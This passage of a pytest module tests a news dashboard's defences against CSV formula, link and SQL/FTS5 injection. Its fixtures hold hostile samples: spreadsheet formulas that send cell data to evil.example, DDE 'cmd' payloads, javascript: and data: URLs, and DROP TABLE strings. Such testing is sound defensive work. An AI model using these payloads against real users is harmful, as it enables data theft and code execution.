"""Injection hardening, end to end on real SQLite files and the real pages (AppTest; one Chromium journey).

1. Formula injection: every CSV export path (``newsdesk.flows.export.csv_bytes`` on each table the CLI
   ``export`` command offers, the CLI's output files, every "Download CSV" button of the dashboard)
   neutralises cells a spreadsheet would run as a formula, and numbers stay numbers.
2. Link injection: ``javascript:``, ``data:``, ``vbscript:``, mixed case, leading whitespace/control
   characters and protocol-relative ``//host`` URLs never become links on any page; http(s) ones do.
3. SQL/FTS5 metacharacters in every filter, in the search box and in every URL parameter of every
   page: results or a documented :class:`newsdesk.errors.NewsdeskError`, never ``sqlite3.OperationalError``
   or an exception element, and nothing in the database is dropped.

Decision on what counts as a formula (``newsdesk.flows.export.is_formula``): OWASP's list (``= + - @``,
tab, CR, LF) tested on the first character, *and* the same four signs after leading whitespace
(importers that trim it — reported for Google Sheets, LibreOffice's "Trim spaces" option and
CSV-to-XLSX converters — turn `` =1+1`` into a formula), *and* their full-width forms ``＝ ＋ － ＠``
(NFKC-folded). No spreadsheet is known to evaluate the full-width forms on import, but CJK input
methods and spreadsheets fold them to ASCII when text is edited, and a ``'`` in front of a rare benign
cell costs little while a live formula costs a lot. Rows end in CRLF (RFC 4180) so that a bare CR
inside a cell is quoted: unquoted, it split the row and let the text after it start a new cell.
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
import sqlite3
import unicodedata
from contextlib import closing, contextmanager
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from components.cards import decisions_csv as rows_csv
from components.loaders import export_csv
from components.tables import decisions_export
from newsdesk.cli import cli
from newsdesk.db import custom_baskets, schema, writes
from newsdesk.db.read import articles as read_articles
from newsdesk.db.read import decisions as read_decisions
from newsdesk.db.read import facets as read_facets
from newsdesk.db.read import filters as read_filters
from newsdesk.db.read import options as read_options
from newsdesk.db.read import timeline as read_timeline
from newsdesk.db.read import totals as read_totals
from newsdesk.domain import filters as view_filters
from newsdesk.domain.filters import Filters
from newsdesk.domain.models import Article, CategoryTag, Decision, Problem
from newsdesk.errors import FilterError
from newsdesk.flows import ingest as pipeline
from newsdesk.flows.export import csv_bytes
from tests.apptest_util import app

# ----------------------------------------------------------------------------------------- the data

LEADS = {
    "eq": "=",
    "plus": "+",
    "minus": "-",
    "at": "@",
    "tab": "\t",
    "cr": "\r",
    "lf": "\n",
    "fullwidth-eq": "＝",
    "fullwidth-plus": "＋",
    "fullwidth-minus": "－",
    "fullwidth-at": "＠",
    "space-eq": " =",
}
# the hostile text each field gets after its lead character (key appended: every value is unique); several
# also hide a formula after a line break inside the cell, which must not start a row of its own
PAYLOAD = {
    "title": 'HYPERLINK("http://evil.example/?d="&A1,"title") Mitsubishi Heavy',
    "summary": "cmd|' /C calc'!A0 summary\r=HYPERLINK(\"http://evil.example/cr\")",
    "body": "SUM(1+1)*cmd|' /C calc'!A0 body\r\n@SUM(1)",
    "source": "Wire",
    "text": "1+1 Go long Japan defense names (Mitsubishi Heavy, 7011.T) for 3-6 months\r-2+3 decision",
    "conditions": 'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")\n+1 conditions',
    "basket_name": "basket name",
    "basket_description": "basket description\r=1+1",
    "company_name": "company name",
    "company_sector": "company sector\r@x",
}
NEGATIVE = -0.4  # every lead article's sentiment and source sentiment


def hostile(field: str, key: str) -> str:
    """The raw value stored for ``field`` of the lead ``key``."""
    return f"{LEADS[key]}{PAYLOAD[field]} {key}"


HOSTILE_URLS = {
    "javascript": "javascript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "vbscript": "vbscript:msgbox(1)",
    "mixed-case": "JaVaScRiPt:alert(1)",
    "control-char": "\x01javascript:alert(1)",
    "leading-space": " javascript:alert(1)",
    "tab-inside": "java\tscript:alert(1)",
    "protocol-relative": "//evil.example/x",
    "backslashes": "\\\\evil.example/x",
}
SAFE_URL = "https://ok.example/story"
MIRROR_URL = "https://mirror.example/story"
LINK_SOURCE = "Link Wire"
MD_SOURCE = "[src](javascript:alert(1)) <data:text/html,x>"  # a source that is itself Markdown
HOSTILE_BASKET = ("[b](javascript:alert(1)) basket", "[d](data:text/html,x) <javascript:alert(2)> ![i](vbscript:x)")


def _article(title, source, day, summary="", body="", decisions=(), url=None, **kw) -> Article:
    from newsdesk.score import score_article

    a = Article(
        title=title,
        source=source,
        url=url,
        published_at=f"{day}T09:00:00Z",
        summary=summary,
        body=body,
        categories=[CategoryTag("Infrastructure & Defense")],
        decisions=[Decision(n, t) for n, t in enumerate(decisions, 1)],
        **kw,
    )
    return score_article(a)


def build_hostile_db(path: Path) -> dict:
    """A real database (ingest write path, then raw SQL for values the ingest layer would have
    normalised away — a database written by an older version or another tool) full of hostile
    text. Returns the ids the tests need."""
    db = schema.connect(path)
    pipeline.ensure_reference(db)
    arts, leads, links = [], {}, {}
    for n, key in enumerate(LEADS):
        a = _article(
            hostile("title", key),
            hostile("source", key),
            f"2026-06-{10 + n:02d}",
            hostile("summary", key),
            hostile("body", key),
            [hostile("text", key)],
            url=f"https://example.com/lead/{n}",
            source_sentiment=NEGATIVE,
        )
        arts.append(a)
    for n, (key, url) in enumerate([*HOSTILE_URLS.items(), ("safe", SAFE_URL)]):
        a = _article(
            f"Link test {key}: [click]({url}) <{url}>",
            LINK_SOURCE,
            f"2026-05-{1 + n:02d}",
            f'![img]({url}) <a href="{url}">a</a> [ref]: {url}',
            f"[body]({url})\n\n[x]: {url}",
            [f"Buy [now]({url}) <{url}> Japan defense names (Mitsubishi Heavy, 7011.T) for 3-6 months"],
        )
        arts.append(a)
    # one article carrying every lead's decision (the Article page's CSV holds one article's decisions)
    carrier = _article("Decision carrier", "Carrier Wire", "2026-04-20", decisions=[hostile("text", k) for k in LEADS])
    arts.append(carrier)
    arts.append(_article("[t](javascript:alert(1)) market-moving", MD_SOURCE, "2026-07-01", "Crash.", ""))
    problems = [
        Problem(hostile("source", k), f"{LEADS[k]}line {k}", f"{LEADS[k]}reason", f"{LEADS[k]}raw") for k in LEADS
    ]
    writes.write_batch(db, arts, problems, "hostile")
    conn = db.conn
    for key, a in zip(LEADS, arts, strict=False):
        leads[key] = a.id
        # exact values (the parsers strip whitespace), planted under the ids the write path gave
        conn.execute(
            "UPDATE articles SET title = ?, source = ?, summary = ?, body = ?, sentiment = ? WHERE id = ?",
            [
                hostile("title", key),
                hostile("source", key),
                hostile("summary", key),
                hostile("body", key),
                NEGATIVE,
                a.id,
            ],
        )
        conn.execute(
            "UPDATE decisions SET text = ?, conditions = ? WHERE article_id = ?",
            [hostile("text", key), hostile("conditions", key), a.id],
        )
    for key, a in zip([*HOSTILE_URLS, "safe"], arts[len(LEADS) :], strict=False):
        links[key] = a.id
        url = HOSTILE_URLS.get(key, SAFE_URL)
        conn.execute("UPDATE articles SET url = ? WHERE id = ?", [url, a.id])  # the write path keeps only http(s)
        # every hostile URL also "carried" the story (the Article page's "Also carried by" line), plus one good one
        conn.executemany(
            "INSERT OR IGNORE INTO article_sources (article_id, source, url, seen_at) VALUES (?, ?, ?, ?)",
            [(a.id, f"Mirror {k}", u, "2026-05-01T00:00:00Z") for k, u in HOSTILE_URLS.items()]
            + [(a.id, "Mirror safe", MIRROR_URL, "2026-05-01T00:00:00Z")],
        )
    for n, key in enumerate(LEADS, 1):
        conn.execute(
            "UPDATE decisions SET text = ?, conditions = ? WHERE article_id = ? AND position = ?",
            [hostile("text", key), hostile("conditions", key), carrier.id, n],
        )
    md_id = arts[-1].id
    conn.execute("UPDATE articles SET impact = 0.95 WHERE id = ?", [md_id])
    # baskets: one custom basket per lead (name/description planted raw), one whose members have hostile
    # company names, one whose name and description are Markdown links
    conn.commit()  # the basket writes below run their own transactions
    tickers = [r[0] for r in conn.execute("SELECT ticker FROM companies WHERE ticker != '7011.T' ORDER BY ticker")]
    member_basket = custom_baskets.create_basket(db, "Hostile members", "", dict.fromkeys(tickers[: len(LEADS)]))
    md_basket = custom_baskets.create_basket(db, HOSTILE_BASKET[0], HOSTILE_BASKET[1], {"7011.T": None})
    lead_baskets = [custom_baskets.create_basket(db, f"lead basket {key}", "", {"7011.T": None}) for key in LEADS]
    for key, ticker, bid in zip(LEADS, tickers, lead_baskets, strict=False):
        conn.execute(
            "UPDATE baskets SET name = ?, description = ? WHERE id = ?",
            [hostile("basket_name", key), hostile("basket_description", key), bid],
        )
        conn.execute(
            "UPDATE companies SET name = ?, sector = ? WHERE ticker = ?",
            [hostile("company_name", key), hostile("company_sector", key), ticker],
        )
    conn.commit()
    db.close()
    return {
        "leads": leads,
        "links": links,
        "carrier": carrier.id,
        "md_article": md_id,
        "member_basket": member_basket,
        "md_basket": md_basket,
    }


def table_counts(path: Path) -> dict[str, int]:
    """Every table of the database with its row count."""
    with closing(sqlite3.connect(path)) as conn:
        names = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")]
        return {n: conn.execute(f'SELECT count(*) FROM "{n}"').fetchone()[0] for n in names}


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> tuple[Path, dict]:
    """The hostile database (built once per module) and its ids; tests only read it."""
    path = tmp_path_factory.mktemp("injection") / "hostile.db"
    ids = build_hostile_db(path)
    return path, ids


@pytest.fixture
def env(hostile_db, monkeypatch) -> tuple[Path, dict]:
    """The hostile database as the dashboard's database (NEWSDESK_DB), writable."""
    monkeypatch.setenv("NEWSDESK_DB", str(hostile_db[0]))
    monkeypatch.delenv("NEWSDESK_READONLY", raising=False)
    return hostile_db


# --------------------------------------------------------------------------------- AppTest helpers


@contextmanager
def captured_downloads():
    """Record the bytes every ``st.download_button`` hands to the media file manager, keyed by file id
    (AppTest keeps its media storage private; the button's proto only carries the URL)."""
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    files: dict[str, bytes] = {}
    original = MemoryMediaFileStorage.load_and_get_id

    def load_and_get_id(self, path_or_data, mimetype, kind, filename=None):
        file_id = original(self, path_or_data, mimetype, kind, filename)
        files[file_id] = path_or_data if isinstance(path_or_data, bytes) else Path(path_or_data).read_bytes()
        return file_id

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(MemoryMediaFileStorage, "load_and_get_id", load_and_get_id)
        # The big tables' CSVs are made on click (a callable); AppTest has no runtime to run one,
        # so here they are made at once from the same frame (tests/ui/test_browser.py clicks the real one).
        mp.setattr("components.tables.deferred_csv", csv_bytes)
        mp.setattr("components.tables.deferred_export", export_csv)
        mp.setattr("components.tables.deferred_decisions", decisions_export)
        mp.setattr("components.tables.deferred_decision_rows", lambda df, cols="human": rows_csv(df, columns=cols))
        yield files


def run_page(page: str, params: dict | None = None):
    """Run ``page`` as the first script of a session, with ``params`` in the URL."""
    at = app()
    for name, value in (params or {}).items():
        at.query_params[name] = value
    if page != "dashboard.py":
        at.switch_page(page)
    return at.run()


def downloads(at, files: dict[str, bytes]) -> dict[str, bytes]:
    """Label -> CSV bytes of every download button on the page."""
    return {b.proto.label: files[Path(b.proto.url).stem] for b in at.get("download_button")}


def rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# ------------------------------------------------------------------------------ 1. formula injection

ARTICLE_FIELDS = ("title", "summary", "body", "source")
HUMAN_FIELDS = ("title", "source")  # the analyst's columns of a download: no summary or body
DECISION_FIELDS = ("title", "text", "conditions")
PATH_FIELDS = {
    "csv_bytes:articles": ARTICLE_FIELDS,
    "csv_bytes:decisions": DECISION_FIELDS,
    "cli:articles": ARTICLE_FIELDS,
    "cli:decisions": DECISION_FIELDS,
    "overview:Download CSV": HUMAN_FIELDS,
    "overview:Download CSV (all columns)": ARTICLE_FIELDS,
    "articles:Download CSV": HUMAN_FIELDS,
    "articles:Download CSV (all columns)": ARTICLE_FIELDS,
    "article:Download CSV": ARTICLE_FIELDS,  # the newest articles when the URL names none
    "article:Download these decisions (CSV)": ("text",),  # the analyst's columns: the text is "decision"
    "article:Download these decisions (CSV, all columns)": ("text", "conditions"),
    "decisions:Download CSV": ("title", "text"),
    "decisions:Download CSV (all columns)": DECISION_FIELDS,
    "baskets:Download decisions CSV": ("title", "text"),
    "baskets:Download members CSV": ("company_name", "company_sector"),
    "baskets:Download basket list CSV": ("basket_name", "basket_description"),
}
# (export path, field) -> its column where a path names it otherwise (the analyst's decisions columns)
PATH_COLUMN = {
    (path, "text"): "decision"
    for path in ("article:Download these decisions (CSV)", "decisions:Download CSV", "baskets:Download decisions CSV")
}
CSV_COLUMN = {
    "company_name": "name",
    "company_sector": "sector",
    "basket_name": "name",
    "basket_description": "description",
}
NUMERIC = {
    "sentiment": float,
    "source_sentiment": float,
    "impact": float,
    "subjectivity": float,
    "source_impact": float,
    "weight": float,
    "mean_sentiment": float,
    "position": int,
    "horizon_min_days": int,
    "horizon_max_days": int,
    "articles": int,
    "members": int,
    "decisions": int,
}


def is_formula(cell: str) -> bool:
    """What a spreadsheet might evaluate (the module docstring's rule, written independently of
    ``newsdesk.flows.export``): a leading tab/CR/LF, or ``= + - @`` (any width) after leading whitespace."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    return unicodedata.normalize("NFKC", cell.lstrip()[:1]) in ("=", "+", "-", "@")


def is_number(cell: str) -> bool:
    try:
        return math.isfinite(float(cell))
    except ValueError:
        return False


@pytest.fixture(scope="module")
def exports(hostile_db, tmp_path_factory) -> dict[str, list[bytes]]:
    """Every CSV export path -> the CSV(s) it produced from the hostile database."""
    path, ids = hostile_db
    out: dict[str, list[bytes]] = {}
    with closing(schema.connect_readonly(path)) as conn:
        out["csv_bytes:articles"] = [csv_bytes(read_articles.articles(conn))]
        out["csv_bytes:decisions"] = [csv_bytes(read_decisions.decisions(conn))]
    folder = tmp_path_factory.mktemp("cli-export")
    for table in ("articles", "decisions"):
        target = folder / f"{table}.csv"
        result = CliRunner().invoke(cli, ["export", table, "-o", str(target), "--db", str(path)])
        assert result.exit_code == 0, result.output
        out[f"cli:{table}"] = [target.read_bytes()]

    lead_days = sorted(view_filters.parse_day(d) for d in table_days(path, list(ids["leads"].values())))
    runs = [
        ("overview", "dashboard.py", {}),
        ("articles", "pages/2_Articles.py", {}),
        ("article", "pages/3_Article.py", {}),  # the newest 10 ...
        ("article", "pages/3_Article.py", {"until": lead_days[3].isoformat()}),  # ... and the older leads
        ("decisions", "pages/1_Decisions.py", {}),
        ("baskets", "pages/4_Baskets.py", {"basket": "japan-defense", "since": lead_days[0].isoformat()}),
        ("baskets", "pages/4_Baskets.py", {"basket": ids["member_basket"]}),
        ("article", "pages/3_Article.py", {"id": ids["carrier"]}),
    ]
    with pytest.MonkeyPatch.context() as mp, captured_downloads() as files:
        mp.setenv("NEWSDESK_DB", str(path))
        mp.delenv("NEWSDESK_READONLY", raising=False)
        for name, page, params in runs:
            at = run_page(page, params)
            assert not at.exception, (page, params, at.exception)
            for label, data in downloads(at, files).items():
                out.setdefault(f"{name}:{label}", []).append(data)
    assert set(PATH_FIELDS) <= set(out), f"a download button went missing: {sorted(set(PATH_FIELDS) - set(out))}"
    return out


def table_days(path: Path, article_ids: list[str]) -> list[str]:
    with closing(sqlite3.connect(path)) as conn:
        marks = ", ".join("?" for _ in article_ids)
        return [
            r[0][:10] for r in conn.execute(f"SELECT published_at FROM articles WHERE id IN ({marks})", article_ids)
        ]


def test_the_cli_offers_exactly_the_tables_covered_here() -> None:
    """The export paths above cover every table the CLI ``export`` command accepts."""
    command = cli.get_command(None, "export")
    (table,) = [p for p in command.params if p.name == "table"]
    assert set(table.type.choices) == {"articles", "decisions"}
    assert {k.split(":")[1] for k in PATH_FIELDS if k.startswith(("cli:", "csv_bytes:"))} == set(table.type.choices)


@pytest.mark.parametrize("export_path", PATH_FIELDS)
@pytest.mark.parametrize("lead", LEADS)
def test_formula_lead_is_neutralised_on_every_export_path(exports, lead, export_path) -> None:
    """Every hostile text field of the ``lead`` article (or decision, basket, company) reaches this
    CSV prefixed with ``'`` and never raw (so the value was exported, and exported neutralised)."""
    cells = [(col, v) for data in exports[export_path] for row in rows(data) for col, v in row.items()]
    for field in PATH_FIELDS[export_path]:
        raw = hostile(field, lead)
        column = PATH_COLUMN.get((export_path, field)) or CSV_COLUMN.get(field, field)
        values = [v for col, v in cells if col == column]
        assert "'" + raw in values, f"{field} of lead {lead!r} missing from {export_path}"
        assert raw not in values, f"{field} of lead {lead!r} left raw in {export_path}"


@pytest.mark.parametrize("export_path", PATH_FIELDS)
def test_no_cell_of_any_export_is_a_formula_and_numbers_stay_numbers(exports, export_path) -> None:
    """Every row keeps its columns (a CR, LF or CRLF inside a cell never starts a new row), no text
    cell starts a formula, and numeric columns hold plain numbers (-0.4 stays -0.4, never '-0.4);
    a number is the only thing allowed to start with '-' or '+'."""
    seen_negative = False
    for data in exports[export_path]:
        for row in rows(data):
            assert None not in row and None not in row.values(), f"a line break split a row: {row}"
            for col, cell in row.items():
                if col in NUMERIC:
                    assert cell == "" or NUMERIC[col](cell) is not None, (col, cell)
                    assert not cell.startswith("'"), (col, cell)
                    seen_negative |= cell == str(NEGATIVE)
                elif cell and not is_number(cell):
                    assert not is_formula(cell), (export_path, col, cell)
    if PATH_FIELDS[export_path] in (ARTICLE_FIELDS, HUMAN_FIELDS):
        assert seen_negative, f"the lead articles' sentiment {NEGATIVE} is missing from {export_path}"


@pytest.mark.parametrize("brk", ["\r", "\n", "\r\n"], ids=["cr", "lf", "crlf"])
def test_a_line_break_inside_a_cell_never_splits_its_row(brk) -> None:
    """A formula hidden after a line break inside a cell stays inside that (quoted) cell: read back,
    the CSV has one row holding the exact text, so no spreadsheet sees ``=cmd...`` starting a row."""
    text = f"harmless{brk}=cmd|' /C calc'!A0"
    data = csv_bytes(pd.DataFrame({"title": [text], "sentiment": [NEGATIVE]}))
    assert rows(data) == [{"title": text, "sentiment": str(NEGATIVE)}]
    assert data.count(b"\r\n") == 2 + (brk == "\r\n")  # header and row ends (CRLF, RFC 4180) ...
    assert f'"{text}"'.encode() in data  # ... and the cell quoted


@pytest.mark.parametrize(
    "value",
    ["plain", "a=b", "", "'quoted", "ünïcode", " leading space", "\u3000全角スペース", "x-1", "3-6 months"],
)
def test_benign_text_is_left_alone(value) -> None:
    """Text that starts no formula is exported unchanged (the rule does not over-reach)."""
    (row,) = rows(csv_bytes(pd.DataFrame({"t": [value]})))
    assert row["t"] == value


def test_numeric_columns_are_never_prefixed() -> None:
    """Float, nullable-integer and boolean columns keep their values: -0.4 is a number, not '-0.4."""
    df = pd.DataFrame(
        {
            "sentiment": [-0.4, None],
            "days": pd.array([-3, None], dtype="Int64"),
            "flag": [True, False],
            "label": ["-0.4", None],
        }
    )
    got = rows(csv_bytes(df))
    assert [r["sentiment"] for r in got] == ["-0.4", ""]
    assert [r["days"] for r in got] == ["-3", ""]
    assert [r["flag"] for r in got] == ["True", "False"]
    assert got[0]["label"] == "'-0.4"  # text that looks like a number is still text


# --------------------------------------------------------------------------------- 2. link injection

_ESCAPED = re.compile(r"\\[!-/:-@\[-`{-~]")  # CommonMark: a backslash escapes any ASCII punctuation
LINK_PATTERNS = (
    re.compile(r"\]\(\s*<?([^\s)>]*)"),  # inline link or image: [text](target)
    re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*)>"),  # autolink: <scheme:...>
    re.compile(r"^ {0,3}\[[^\]]+\]:\s*<?(\S+?)>?(?:\s|$)", re.M),  # reference definition: [x]: target
    re.compile(r"""<[A-Za-z][^<>]*?\s(?:href|src|action|formaction)\s*=\s*["']?([^"'\s>]+)""", re.I),  # raw HTML
)
# GFM autolink literals: found in the text as the reader sees it (a real browser links "https\://x\.y" too)
LITERAL_LINK = re.compile(r"(?i)\b(?:https?://|www\.)[^\s<]*|[\w.+-]+@[a-z0-9-]+(?:\.[a-z0-9-]+)+")
MARKDOWN_FIELDS = {"body", "label", "help", "delta", "caption"}  # proto fields Streamlit renders as Markdown


def link_targets(markdown: str) -> list[str]:
    """Every link target a CommonMark/GFM renderer could make of ``markdown``: inline links and
    images, autolinks, reference definitions, raw HTML attributes (backslash escapes honoured) and
    GFM's literal ``https://``/``www.``/e-mail autolinks (as ``mailto:``)."""
    text = _ESCAPED.sub("\ufffc", markdown)
    found = [t for pattern in LINK_PATTERNS for t in pattern.findall(text)]
    seen = _ESCAPED.sub(lambda m: m.group()[1], markdown)
    for literal in LITERAL_LINK.findall(seen):
        lower = literal.lower()
        found.append(
            literal if "://" in lower else f"http://{literal}" if lower.startswith("www.") else f"mailto:{literal}"
        )
    return found


# the dashboard's own pages, linked by path from the same site: never another scheme or host
INTERNAL_LINK = re.compile(r"/(?:Article|Articles|Baskets|Decisions)?\?[\w%.=&+-]*")


def is_web_link(target: str) -> bool:
    return re.match(r"https?://[^/\\\s]", target, re.I) is not None or INTERNAL_LINK.fullmatch(target) is not None


def markdown_strings(at) -> list[str]:
    """Every Markdown-rendered string of the page: bodies of markdown/captions/titles/alerts, labels
    and help of widgets, page links and metrics, expander and tab labels (sidebar included)."""
    found: list[str] = []

    def visit_proto(message) -> None:
        for field, value in message.ListFields():
            if field.type == field.TYPE_MESSAGE:
                for item in value if field.is_repeated else [value]:
                    visit_proto(item)
            elif field.type == field.TYPE_STRING and field.name in MARKDOWN_FIELDS:
                found.extend(value if field.is_repeated else [value])

    def visit(node) -> None:
        proto = getattr(node, "proto", None)
        if proto is not None and hasattr(proto, "ListFields"):
            visit_proto(proto)
        for child in getattr(node, "children", {}).values():
            visit(child)

    visit(at._tree)
    return found


def link_columns(at) -> list[str]:
    """The values of every ``url`` column of every dataframe on the page (LinkColumn cells)."""
    values = []
    for frame in at.dataframe:
        df = frame.value
        df = df.data if hasattr(df, "data") else df  # a Styler
        for col in df.columns:
            if str(col).lower() in ("url", "link"):
                values.extend(v for v in df[col] if isinstance(v, str) and v)
    return values


def assert_only_web_links(at) -> list[str]:
    """No Markdown link or LinkColumn cell on the page leads anywhere but http(s); return the links."""
    assert not at.exception, at.exception
    targets = [t for s in markdown_strings(at) for t in link_targets(s)]
    bad = [t for t in targets if not is_web_link(t)]
    assert not bad, f"non-http(s) link targets on the page: {bad}"
    cells = link_columns(at)
    bad_cells = [c for c in cells if not is_web_link(c)]
    assert not bad_cells, f"non-http(s) LinkColumn cells: {bad_cells}"
    return targets + cells


@pytest.mark.parametrize(
    ("markdown", "bad", "web"),
    [
        ("[a](javascript:x)", ["javascript:x"], False),
        ("![i](data:text/html,x)", ["data:text/html,x"], False),
        ("<vbscript:x>", ["vbscript:x"], False),
        ("[r]: //evil.example", ["//evil.example"], False),
        ('<a href="javascript:x">', ["javascript:x"], False),
        ("write to a@evil.example", ["mailto:a@evil.example"], False),
        (r"\[a\]\(javascript:x\)", [], False),
        (r"\<javascript:x\>", [], False),
        (r'\<a href="javascript:x"\>', [], False),
        ("[ok](https://ok.example/a)", [], True),
        (r"see https\://ok\.example/a", [], True),
        ("see www.ok.example", [], True),
        ("[b](/Baskets?basket=japan-defense)", [], True),
        ("[t](/?company=7011.T)", [], True),
        ("[r](//evil.example/?x=1)", ["//evil.example/?x=1"], False),
        ("[p](/Baskets/../x?y=1)", ["/Baskets/../x?y=1"], False),
    ],
)
def test_link_scanner_finds_live_links_and_ignores_escaped_ones(markdown, bad, web) -> None:
    """The scanner the page tests rely on sees live links (and GFM's literal autolinks, escaped or
    not, as a browser does) and ignores backslash-escaped link syntax."""
    targets = link_targets(markdown)
    assert [t for t in targets if not is_web_link(t)] == bad
    assert any(is_web_link(t) for t in targets) == web


@pytest.mark.parametrize("url", [*HOSTILE_URLS.values(), "", None, "mailto:a@b.example", "ftp://x.example"])
def test_safe_link_drops_everything_but_http(url) -> None:
    """``components.tables.safe_link`` (the one function deciding what is linked) keeps only http(s)."""
    from components.article_view import md_link
    from components.tables import safe_link

    assert safe_link(url) is None
    assert link_targets(md_link("Open", url)) == []


@pytest.mark.parametrize("url", [SAFE_URL, "HTTP://OK.EXAMPLE/A", "https://ok.example/a_(b) c"])
def test_safe_link_keeps_http(url) -> None:
    """http(s) URLs stay links, with parentheses and spaces percent-encoded so they cannot end the link early."""
    from components.article_view import md_link
    from components.tables import safe_link

    assert safe_link(url) == url
    link = md_link("Open", url)
    assert re.fullmatch(r"\[Open\]\((https?://[^()\s]+)\)", link, re.I), link
    assert all(is_web_link(t) for t in link_targets(link))


@pytest.mark.parametrize("key", [*HOSTILE_URLS, "safe"])
def test_article_page_links_only_http(env, key) -> None:
    """The Article page of an article whose URL is hostile shows no link to it ("Open the original"
    is left out) and no link from "Also carried by" mirrors with hostile URLs; the https control
    article and the https mirror are linked."""
    _, ids = env
    at = run_page("pages/3_Article.py", {"id": ids["links"][key]})
    targets = assert_only_web_links(at)
    page_text = " ".join(markdown_strings(at))
    assert "Link test" in at.title[0].value  # the hostile article really is on the page
    assert MIRROR_URL in targets
    assert ("Open the original" in page_text) == (key == "safe")
    if key == "safe":
        assert SAFE_URL in targets  # the scanner sees real links on this very page


@pytest.mark.parametrize(
    ("page", "params"),
    [
        ("dashboard.py", {}),
        ("pages/2_Articles.py", {"source": LINK_SOURCE}),
        ("pages/1_Decisions.py", {"source": LINK_SOURCE}),
        ("pages/4_Baskets.py", {"basket": "japan-defense", "until": "2026-05-31"}),
        ("pages/4_Baskets.py", {"basket": "md_basket"}),
        ("pages/3_Article.py", {}),
    ],
    ids=["overview", "articles", "decisions", "baskets-japan-defense", "baskets-markdown-basket", "article-picker"],
)
def test_no_page_links_a_hostile_target(env, page, params) -> None:
    """Articles table links, high-impact article links (label and help), decision cards, basket
    cards, basket descriptions and the recent-articles table never link a non-http(s) target."""
    _, ids = env
    params = {k: ids.get(v, v) for k, v in params.items()}
    at = run_page(page, params)
    assert_only_web_links(at)
    if page in ("dashboard.py", "pages/2_Articles.py"):
        table = at.dataframe[-1].value
        table = table.data if hasattr(table, "data") else table
        hostile_rows = table[table["title"].str.startswith("Link test") & ~table["title"].str.contains("safe")]
        assert len(hostile_rows) == len(HOSTILE_URLS) and hostile_rows["url"].isna().all()
        assert SAFE_URL in set(table["url"].dropna())
    if page == "pages/1_Decisions.py":
        assert sum(r"\[now\]" in s for s in markdown_strings(at)) == len(HOSTILE_URLS) + 1
    if params.get("basket") == "japan-defense":
        assert link_columns(at) == [SAFE_URL]  # the recent-articles table: only the https article is linked


def test_decision_card_component_escapes_links() -> None:
    """``components.cards.article_decisions_card`` (the compact card) turns none of a decision's
    Markdown or autolinks into a link."""
    from streamlit.testing.v1 import AppTest

    def script() -> None:
        import pandas as pd

        from components.cards import article_decisions_card

        url = "data:text/html,<script>alert(1)</script>"
        article_decisions_card(
            pd.DataFrame(
                {
                    "title": [f"[t]({url})"],
                    "published_at": ["2026-05-01"],
                    "position": [1],
                    "text": [f"[x](javascript:alert(1)) <{url}> <a href='{url}'>a</a>"],
                    "direction": ["[d](vbscript:x)"],
                    "action": ["<//evil.example>"],
                    "structure": [None],
                    "horizon_min_days": [None],
                    "horizon_max_days": [None],
                    "instruments": ['[{"side": "[s](javascript:x)", "ticker": "<javascript:x>"}]'],
                    "conditions": ["[c](JaVaScRiPt:x)"],
                }
            )
        )

    at = AppTest.from_function(script).run()
    assert not at.exception
    strings = markdown_strings(at)
    assert any("javascript" in s for s in strings)  # the text is shown ...
    assert [t for s in strings for t in link_targets(s)] == []  # ... but never as a link


# ----------------------------------------------------------------------------- 3. SQL and FTS5 input

HOSTILE_STRINGS = {
    "quote": "'",
    "dquote": '"',
    "or-1-1": "' OR 1=1 --",
    "drop": "'; DROP TABLE articles; --",
    "near": "NEAR(",
    "star": "*",
    "caret": "^",
    "unbalanced": '"unbalanced',
    "and-dangling": "a AND",
    "or": "OR",
    "not": "NOT",
    "col-val": "col:val",
    "title-col": "title:x",
    "lparen": "(",
    "rparen": ")",
    "brace": "{",
    "minus": "-",
    "percent": "%",
    "underscore": "_",
    "backslash": "\\",
    "nul": "\x00",
    "nul-inside": "Tariff\x00'; DROP TABLE articles; --",
    "10k": "x" * 10_000,
    "10k-words": " ".join(["NEAR(a"] * 2_000),
    "emoji": "🚀📉 tariff",
    "rtl-override": "\u202eTariff\u202c",
}


def _all_queries(conn, f: Filters) -> dict:
    """Every filtered query the pages and the CLI run, on ``f``."""
    return {
        "articles": read_articles.articles(conn, f, limit=1000),
        "kpis": read_totals.kpis(conn, f),
        "daily": read_timeline.daily_sentiment(conn, f, "week"),
        "decisions": read_decisions.decisions(conn, f),
        "decision_count": read_decisions.decision_count(conn, f),
        "facets": read_facets.facets(conn, f),
        "what_moved": read_timeline.what_moved(conn, f, date(2026, 7, 1)),
        "previous": read_totals.kpis(conn, read_totals.previous_period(f, read_options.date_bounds(conn)) or f),
    }


@pytest.fixture(scope="module")
def ro_conn(hostile_db):
    with closing(schema.connect_readonly(hostile_db[0])) as conn:
        yield conn


@pytest.mark.parametrize("field", ["text", "sources", "companies", "topics", "labels", "all"])
@pytest.mark.parametrize("value", HOSTILE_STRINGS.values(), ids=HOSTILE_STRINGS.keys())
def test_hostile_filter_values_are_bound_never_parsed(hostile_db, ro_conn, value, field) -> None:
    """Each hostile string in each filter field runs every query without error; in the exact-match
    fields (sources, companies/baskets, topics, labels) it matches nothing — the value was bound as
    data, never spliced into SQL (``' OR 1=1 --`` would otherwise match everything)."""
    total = table_counts(hostile_db[0])["articles"]
    one = {
        "text": Filters(text=value),
        "sources": Filters(sources=(value,)),
        "companies": Filters(companies=(value, f"basket:{value}")),
        "topics": Filters(topics=(value,)),
        "labels": Filters(labels=(value,)),
    }
    f = one.get(field) or Filters(
        text=value, sources=(value,), companies=(value, f"basket:{value}"), topics=(value,), labels=(value,)
    )
    got = _all_queries(ro_conn, f)
    assert len(got["articles"]) == got["kpis"]["articles"] <= total
    assert got["decision_count"] == len(got["decisions"])
    if field != "text":
